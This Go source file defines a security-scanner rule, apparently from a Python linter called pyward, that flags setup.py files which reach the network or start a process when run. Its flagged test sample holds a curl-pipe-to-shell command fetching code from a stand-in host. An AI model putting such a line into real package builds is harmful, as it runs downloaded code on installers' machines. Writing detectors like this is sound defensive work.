package rules

import (
	"path"
	"strings"

	"github.com/pyward/pyward/python/ast"
)

// networkFuncs are calls that reach the network.
var networkFuncs = []string{
	"urllib.request.urlopen", "urllib.request.urlretrieve", "urllib.urlopen", "urllib.urlretrieve", "urllib2.urlopen",
	"requests.get", "requests.post", "requests.put", "requests.patch", "requests.delete", "requests.head", "requests.request",
	"httpx.get", "httpx.post", "httpx.put", "httpx.request", "http.client.HTTPConnection", "http.client.HTTPSConnection",
	"socket.socket", "socket.create_connection", "ftplib.FTP", "smtplib.SMTP", "telnetlib.Telnet",
}

func init() {
	Register(&Rule{
		ID: "PW108", Name: "setup_py_side_effects", Severity: High, Confidence: Medium, CWE: 506,
		Message:        "setup.py reaches the network or runs a process when it is executed",
		Recommendation: "Declare dependencies and build steps in pyproject.toml; setup.py should only call setup().",
		Help:           "pip runs setup.py to build or install a package, so module-level code there runs on the installing machine, often as root. Malicious packages download and run their payload from setup.py; honest ones do not need to.",
		Flagged: []string{
			"# file: setup.py\nimport os\nos.system('curl http://x.example/p | sh')\nsetup(name='pkg')\n",
		},
		Clean: []string{"# file: setup.py\nfrom setuptools import setup\nsetup(name='pkg', version='1.0')\n"},
		Kinds: []Kind{KindEnd},
		Check: func(c *Context, n ast.Node) {
			if path.Base(strings.ReplaceAll(c.File.Name, "\\", "/")) != "setup.py" {
				return
			}
			var visit func(stmts []ast.Stmt)
			check := func(node ast.Node) {
				ast.Inspect(node, func(x ast.Node) bool {
					switch x := x.(type) {
					case *ast.Lambda, *ast.FunctionDef, *ast.AsyncFunctionDef:
						return false
					case *ast.Call:
						q := c.QualName(x.Func)
						if _, ok := c.processCall(x); ok || inList(q, networkFuncs) {
							c.Report(x)
						}
					}
					return true
				})
			}
			visit = func(stmts []ast.Stmt) {
				for _, st := range stmts {
					switch s := st.(type) {
					case *ast.FunctionDef, *ast.AsyncFunctionDef, *ast.ClassDef:
						// Bodies run later, if at all (install commands are
						// another matter, judged by the other rules).
					case *ast.If:
						check(s.Test)
						visit(s.Body)
						visit(s.Orelse)
					case *ast.Try:
						visit(s.Body)
						for _, h := range s.Handlers {
							visit(h.Body)
						}
						visit(s.Orelse)
						visit(s.Finalbody)
					case *ast.With:
						for _, it := range s.Items {
							check(it.ContextExpr)
						}
						visit(s.Body)
					default:
						check(st)
					}
				}
			}
			if c.File.Module != nil {
				visit(c.File.Module.Body)
			}
		},
	})
}
